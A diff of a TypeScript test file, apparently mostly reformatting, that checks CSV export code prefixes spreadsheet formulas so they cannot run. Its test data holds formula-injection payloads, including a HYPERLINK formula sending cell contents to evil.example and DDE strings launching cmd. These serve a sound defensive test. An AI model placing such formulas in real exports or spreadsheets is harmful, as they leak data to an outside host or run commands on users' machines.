@@ -12,7 +12,7 @@ const ON = "'";
 
 describe("neutralizeFormula", () => {
   it.each([
-    ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"],
+    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'],
     ["=1+1", "'=1+1"],
     ["+1+1", "'+1+1"],
     ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
@@ -53,32 +53,64 @@ describe("csvLine", () => {
   it("prefixes text cells, not numbers, and quotes after prefixing", () => {
     const line = csvLine(["=1+1", 42, "-7.5", "\r=cmd", "a,b", null], { formulaPrefix: ON });
     expect(parseCsv(line)[0]!.slice(0, 6)).toEqual(["'=1+1", "42", "-7.5", "'\r=cmd", "a,b", ""]);
-    expect(line.startsWith("'=1+1,42,-7.5,\"'\r=cmd\",\"a,b\",")).toBe(true);
+    expect(line.startsWith('\'=1+1,42,-7.5,"\'\r=cmd","a,b",')).toBe(true);
   });
 });
 
 describe("renderCsv", () => {
   it("protects every text field of PMT's report, the disclaimer too, when on, and none when off", async () => {
     const row = {
-      project_id: 1, project_title: "=cmd|' /C calc'!A0", project_description: "@SUM(A1)", data_group: "+x",
-      project_start_date: "2010-01-01", project_end_date: "2012-12-31", project_budget: "-100.50",
-      activity_id: 2, iati_identifier: null, title: "-2+3", description: "\tTab", sector_names: "Basic health care", sector_codes: "12220",
-      coordinates: "-6.8 39.28,-6.79 39.21", country_names: "Tanzania", funding: "=A1", implementing: "Org", start_date: "2010-02-01",
-      end_date: "2011-01-01", budget: "-5", status_names: "Implementation",
+      project_id: 1,
+      project_title: "=cmd|' /C calc'!A0",
+      project_description: "@SUM(A1)",
+      data_group: "+x",
+      project_start_date: "2010-01-01",
+      project_end_date: "2012-12-31",
+      project_budget: "-100.50",
+      activity_id: 2,
+      iati_identifier: null,
+      title: "-2+3",
+      description: "\tTab",
+      sector_names: "Basic health care",
+      sector_codes: "12220",
+      coordinates: "-6.8 39.28,-6.79 39.21",
+      country_names: "Tanzania",
+      funding: "=A1",
+      implementing: "Org",
+      start_date: "2010-02-01",
+      end_date: "2011-01-01",
+      budget: "-5",
+      status_names: "Implementation",
     } as ExportRow;
     async function* rows() {
       yield row;
     }
     const render = async (formulaPrefix: string | null) => {
       let text = "";
-      for await (const chunk of renderCsv({ databaseVersion: "2.0.8.51", retrievalDate: "2026-01-01", filters: "none", disclaimer: "=Disclaimer" }, rows(), { formulaPrefix })) text += chunk;
+      for await (const chunk of renderCsv({ databaseVersion: "2.0.8.51", retrievalDate: "2026-01-01", filters: "none", disclaimer: "=Disclaimer" }, rows(), {
+        formulaPrefix,
+      }))
+        text += chunk;
       return parseCsv(text);
     };
     const on = await render(ON);
     expect(on[1]![0]).toBe("'=Disclaimer");
     expect(on[3]!.slice(0, 8)).toEqual(["", "1", "'=cmd|' /C calc'!A0", "'@SUM(A1)", "'+x", "2010-01-01", "2012-12-31", "-100.50"]);
     expect(on[5]!.slice(0, 14)).toEqual([
-      "", "2", "'-2+3", "'\tTab", "Basic health care", "12220", "-6.8 39.28,-6.79 39.21", "Tanzania", "'=A1", "Org", "2010-02-01", "2011-01-01", "-5", "Implementation",
+      "",
+      "2",
+      "'-2+3",
+      "'\tTab",
+      "Basic health care",
+      "12220",
+      "-6.8 39.28,-6.79 39.21",
+      "Tanzania",
+      "'=A1",
+      "Org",
+      "2010-02-01",
+      "2011-01-01",
+      "-5",
+      "Implementation",
     ]);
     const off = await render(null);
     expect(off[3]![2]).toBe("=cmd|' /C calc'!A0");
